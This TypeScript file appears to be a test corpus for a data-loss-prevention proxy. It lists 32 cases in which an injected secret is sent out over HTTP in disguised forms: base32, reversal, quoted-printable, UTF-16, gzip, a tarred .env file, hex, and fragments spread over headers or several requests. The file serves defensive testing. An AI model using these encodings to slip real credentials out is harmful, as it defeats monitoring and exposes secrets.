/**
 * Known secrets (values the proxy was given, like an injected credential) in the forms an agent
 * produces with one line of shell: base32, reversal, quoted-printable, nested percent-encoding,
 * UTF-16, compressed bytes without a Content-Encoding, base64 of compressed data, escapes, and
 * pieces shorter than the fragment window spread over headers or over requests. Each case has its
 * own secret (knownSecretFor(id)) so cases never help or hurt each other through the proxy's
 * cross-request accumulation.
 */
import { API } from './hosts.js';
import { attacks, bin, get, json, post } from './build.js';
import {
  b64, base32, fullwidth, gzip, hex, hexDelim, jsonUnicode, knownSecretFor, pctNested, pieces, qpAll, qpSoft, reverse, shellHexEscapes, tar, utf16beBom, utf16le, wrap, zlibDeflate,
} from './gen.js';
import type { CorpusCase, CorpusSurface, RequestSpec } from './types.js';

const k = attacks('known-secret');

/** A known-secret case: `make(secret)` builds the request from this case's secret. */
function known(id: string, surface: CorpusSurface, description: string, make: (s: string) => RequestSpec | { steps: RequestSpec[] }): CorpusCase {
  const s = knownSecretFor(id);
  const m = make(s);
  return 'steps' in m ? k(id, surface, description, { steps: m.steps, leakRule: 'all-steps', knownSecret: s }) : k(id, surface, description, { request: m, knownSecret: s });
}

export const KNOWN_ATTACKS: readonly CorpusCase[] = [
  known('dlp-known-raw-01', 'body', 'raw known secret in a JSON body (baseline)', (s) => post(API, '/v1/x', json({ v: s }), 'application/json')),
  known('dlp-known-raw-02', 'path', 'raw known secret as a path segment (baseline)', (s) => get(API, `/v1/obj/${s}`)),
  known('dlp-known-b64-03', 'header', 'base64 of the known secret in a header (baseline)', (s) => get(API, '/v1/x', [['x-data', b64(s)]])),
  known('dlp-known-b32-04', 'body', 'base32 (upper, padded) of the known secret', (s) => post(API, '/v1/x', `v=${base32(Buffer.from(s))}`, 'text/plain')),
  known('dlp-known-b32-05', 'query', 'base32 lower-case, no padding, in the query', (s) => get(API, `/v1/q?v=${base32(Buffer.from(s), false).toLowerCase()}`)),
  known('dlp-known-rev-06', 'body', 'the known secret reversed (rev)', (s) => post(API, '/v1/x', `note=${reverse(s)}`, 'text/plain')),
  known('dlp-known-rev-07', 'query', 'the known secret reversed, in the query', (s) => get(API, `/v1/q?r=${reverse(s)}`)),
  known('dlp-known-b64rev-08', 'header', 'base64 of the reversed known secret in a header', (s) => get(API, '/v1/x', [['x-data', b64(reverse(s))]])),
  known('dlp-known-qpall-09', 'body', 'quoted-printable with every byte encoded (=41=42…)', (s) => post(API, '/v1/mail', `Content-Transfer-Encoding: quoted-printable\r\n\r\n${qpAll(s)}`, 'text/plain')),
  known('dlp-known-qpsoft-10', 'body', 'quoted-printable soft line break (=\\r\\n) inside the secret', (s) => post(API, '/v1/mail', qpSoft(`${'Summary of the build log for the release candidate, see details: '}${s} end`), 'text/plain')),
  known('dlp-known-pct2-11', 'query', 'double percent-encoding in the query', (s) => get(API, `/v1/q?v=${pctNested(s, 2)}`)),
  known('dlp-known-pct3-12', 'path', 'triple percent-encoding in the path', (s) => get(API, `/v1/obj/${pctNested(s, 3)}`)),
  known('dlp-known-utf16le-13', 'body', 'UTF-16LE bytes (iconv -t UTF-16LE) as octet-stream', (s) => post(API, '/v1/upload', bin(utf16le(`v=${s}\n`)), 'application/octet-stream')),
  known('dlp-known-utf16be-14', 'body', 'UTF-16BE with BOM, declared text/plain; charset=utf-16', (s) => post(API, '/v1/upload', bin(utf16beBom(`v=${s}\n`)), 'text/plain; charset=utf-16')),
  known('dlp-known-b64utf16-15', 'body', 'base64 of UTF-16LE (PowerShell -EncodedCommand shape)', (s) => post(API, '/v1/x', json({ cmd: b64(utf16le(s)) }), 'application/json')),
  known('dlp-known-gzip-16', 'body', 'gzip bytes without Content-Encoding', (s) => post(API, '/v1/upload', bin(gzip(`v=${s}\n`)), 'application/octet-stream')),
  known('dlp-known-zlib-17', 'body', 'zlib (deflate) bytes without Content-Encoding', (s) => post(API, '/v1/upload', bin(zlibDeflate(`v=${s}\n`)), 'application/octet-stream')),
  known('dlp-known-b64gzip-18', 'body', 'base64 of gzip (gzip | base64) in JSON', (s) => post(API, '/v1/x', json({ blob: b64(gzip(s)) }), 'application/json')),
  known('dlp-known-targz-19', 'body', 'tar czf - .env (gzip magic, tar inside)', (s) => post(API, '/v1/upload', bin(gzip(tar('.env', `APP=web\nREF=${s}\n`))), 'application/gzip')),
  known('dlp-known-hdrpieces-20', 'header', 'pieces of 6 characters in consecutive headers (shorter than the fragment window)', (s) =>
    get(API, '/v1/x', pieces(s, 6).map((p, i) => [`x-trace-${i}`, p] as const)),
  ),
  known('dlp-known-hdrshuffle-21', 'header', 'pieces of 5 characters in headers, shuffled, index in the header name', (s) => {
    const ps = pieces(s, 5).map((p, i) => [`x-seg-${String(i).padStart(2, '0')}`, p] as const);
    const order = [...ps.keys()].sort((a, b) => ((a * 7 + 3) % ps.length) - ((b * 7 + 3) % ps.length));
    return get(API, '/v1/x', order.map((i) => ps[i]!));
  }),
  known('dlp-known-reqsplit-22', 'query', 'pieces of 10 characters in the query of 4 requests', (s) => ({ steps: pieces(s, 10).map((p, i) => get(API, `/v1/q?page=${i}&cursor=${p}`)) })),
  known('dlp-known-reqsplit-23', 'path', 'pieces of 10 characters as path segments of 4 requests', (s) => ({ steps: pieces(s, 10).map((p, i) => get(API, `/v1/items/${p}/${i}`)) })),
  known('dlp-known-uescape-24', 'body', 'JSON \\u escapes in a text/plain body', (s) => post(API, '/v1/x', `{"v":"${jsonUnicode(s)}"}`, 'text/plain')),
  known('dlp-known-xesc-25', 'body', '\\x escapes in a shell script', (s) => post(API, '/v1/sh', `#!/bin/sh\nprintf '${shellHexEscapes(s)}'\n`, 'text/x-shellscript')),
  known('dlp-known-fullwidth-26', 'body', 'fullwidth Unicode form (NFKC folds it)', (s) => post(API, '/v1/x', `v=${fullwidth(s)}`, 'text/plain; charset=utf-8')),
  known('dlp-known-hexcolon-27', 'body', 'hex with ":" delimiters', (s) => post(API, '/v1/x', hexDelim(s, ':'), 'text/plain')),
  known('dlp-known-hexspace-28', 'header', 'upper-case hex with spaces in a header', (s) => get(API, '/v1/x', [['x-dump', hexDelim(s, ' ').toUpperCase()]])),
  known('dlp-known-b64narrow-29', 'body', 'base64 wrapped at 8 columns', (s) => post(API, '/v1/x', wrap(b64(s), 8), 'text/plain')),
  known('dlp-known-b64b64-30', 'body', 'base64(base64(secret))', (s) => post(API, '/v1/x', json({ d: b64(b64(s)) }), 'application/json')),
  known('dlp-known-hexgzip-31', 'query', 'hex of gzip (gzip | xxd -p) in the query', (s) => get(API, `/v1/q?z=${hex(gzip(s))}`)),
  known('dlp-known-splitsurf-32', 'header', 'pieces of 6 characters spread over query, headers and body of one request', (s) => {
    const ps = pieces(s, 6);
    const q = ps.filter((_, i) => i % 3 === 0);
    const h = ps.filter((_, i) => i % 3 === 1);
    const b = ps.filter((_, i) => i % 3 === 2);
    return post(API, `/v1/x?${q.map((p, i) => `a${i}=${p}`).join('&')}`, b.map((p, i) => `c${i}=${p}`).join('&'), 'application/x-www-form-urlencoded', h.map((p, i) => [`x-b${i}`, p] as const));
  }),
];

